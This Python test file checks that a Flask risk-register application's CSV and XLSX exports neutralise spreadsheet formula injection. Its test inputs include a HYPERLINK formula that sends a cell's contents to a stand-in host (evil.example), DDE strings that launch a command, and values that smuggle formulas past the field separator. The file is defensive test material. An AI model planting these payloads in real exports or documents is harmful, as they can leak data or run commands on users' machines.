"""Formula injection: every CSV/XLSX export neutralises text a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select

from riskreg.audit.context import acting
from riskreg.exports import FORMULA_START, neutralise_cell, rows_to_csv_text, xlsx_bytes
from riskreg.extensions import db
from riskreg.plans.exporter import neutralise_formula
from riskreg.risks.models import Risk
from tests.conftest import login

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_cell(text: str) -> None:
    assert neutralise_cell(text) == "'" + text
    assert neutralise_formula(text) == "'" + text  # the plan exporter's name for the same rule


def test_harmless_values_are_untouched() -> None:
    for value in ("Risk för fel", "a=b", "e-post", "", 5, -5, 1.5, None, date(2025, 8, 15)):
        assert neutralise_cell(value) == value
    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r")


def test_csv_writer_neutralises_text_but_not_numbers() -> None:
    text = rows_to_csv_text(["Rubrik", "Belopp"], [[h, -12] for h in HOSTILE])
    assert text.startswith('\ufeff"Rubrik";"Belopp"\r\n')  # every text quoted
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))[1:]
    assert [r[0] for r in rows] == ["'" + h for h in HOSTILE]
    assert {r[1] for r in rows} == {"-12"}


def test_xlsx_writer_stores_formula_like_text_as_text() -> None:
    data = xlsx_bytes(
        ["Rubrik", "När", "Datum", "Tal"],
        [[h, datetime(2025, 1, 2, 3, 4, 5), date(2025, 8, 15), 7] for h in HOSTILE]
        + [["ok\x00\x07text", None, None, None]],
        sheet="Spår=1",
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None and sheet.title == "Spår=1"
    values = list(sheet.iter_rows(min_row=2, values_only=False))
    for row, text in zip(values, HOSTILE, strict=False):
        assert row[0].value == text and row[0].data_type == "s" and row[0].quotePrefix
        assert row[1].value == datetime(2025, 1, 2, 3, 4, 5)
        assert row[3].value == 7
    assert values[-1][0].value == "oktext"  # XML cannot carry control characters


def test_audit_trail_export_is_neutralised(app: Flask, demo: dict[str, str]) -> None:
    with app.app_context(), acting(actor_name="=cmd|' /C calc'!A0", reason="@SUM(A1)"):
        risk = db.session.scalar(select(Risk).order_by(Risk.id))
        risk.title = HOSTILE[0]
        db.session.commit()
    client = app.test_client()
    login(client, "revisor", demo["revisor"])
    text = client.get("/audit/export.csv?action=update").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    changed = [r for r in rows if r["Objekttyp"] == "Risk"]
    assert changed, rows
    assert changed[-1]["Användare"] == "'=cmd|' /C calc'!A0"
    assert changed[-1]["Skäl"] == "'@SUM(A1)"
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(FORMULA_START), row
    book = load_workbook(io.BytesIO(client.get("/audit/export.xlsx?action=update").data))
    sheet = book.active
    assert sheet is not None
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    users = [row[2].value for row in sheet.iter_rows(min_row=2)]
    assert "=cmd|' /C calc'!A0" in users  # kept as text, not prefixed, in XLSX


# --- the other separator ------------------------------------------------------------------------

EMBEDDED = [
    "Kostnad;=1+1;@SUM(1+1)",  # a comma file opened in Swedish Excel (;)
    "Kostnad,=1+1,@SUM(1+1)",  # a ; file opened with ,
    'Kostnad;"=1+1";-2+3',  # a quote in front: a reader takes it as a quoted cell
    "Kostnad; =1+1",  # a space in front is no formula; left as it is
]


def _cells_under_both_readers(text: str) -> list[str]:
    cells = []
    for delimiter in (",", ";"):
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter):
            cells.extend(row)
    return cells


def _no_formula(cells: list[str]) -> None:
    # A plain negative number is a number, not a formula.
    formulas = [
        c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"-\d+", c)
    ]
    assert not formulas, formulas


@pytest.mark.parametrize("delimiter", [";", ","])
def test_csv_export_is_safe_under_either_separator(delimiter: str) -> None:
    text = rows_to_csv_text(
        ["Rubrik", "Ansvarig", "Belopp"],
        [[e, e, 5] for e in EMBEDDED] + [[h, "x", -1] for h in HOSTILE],
        delimiter=delimiter,
    )
    _no_formula(_cells_under_both_readers(text))
    # Read with its own separator, the texts are the user's, with the guard marks only.
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))[1:]
    assert [r[0].replace("'", "") for r in rows[: len(EMBEDDED)]] == [
        e.replace("'", "") for e in EMBEDDED
    ]
    assert rows[-1][2] == "-1"  # numbers stay numbers, unquoted


@pytest.mark.parametrize("export", ["export.csv", "export.source.csv"])
def test_plan_csv_is_safe_under_either_separator_and_reimports_unchanged(
    app: Flask, demo: dict[str, str], export: str
) -> None:
    """Both plan CSVs: the one for Swedish Excel (quoted, BOM) and the record format."""
    from riskreg.auth.models import Unit
    from riskreg.plans.plan_file import read_plan

    with app.app_context():
        codes = set(db.session.scalars(select(Unit.code)))
        risks = list(db.session.scalars(select(Risk).order_by(Risk.id).limit(len(EMBEDDED))))
        for risk, title in zip(risks, EMBEDDED, strict=True):
            risk.title = title
        db.session.commit()
        plan_id = risks[0].plan_id
    client = app.test_client()
    login(client, "admin", demo["admin"])
    response = client.get(f"/plans/{plan_id}/{export}")
    assert response.status_code == 200
    text = response.get_data(as_text=True).removeprefix("\ufeff")
    _no_formula(_cells_under_both_readers(text))
    if export == "export.source.csv":
        # The record format is not quoted: a guard goes in front of every part a reader that
        # splits on the other separator would see as a cell.
        assert "Kostnad;'=1+1;'@SUM(1+1)" in text
    # riskreg's own importer takes the guard marks off again: the titles come back as typed.
    parsed = read_plan(io.BytesIO(text.encode("utf-8")), "plan.csv", codes)
    assert not parsed.errors, parsed.errors
    assert [row.title for row in parsed.rows[: len(EMBEDDED)]] == EMBEDDED
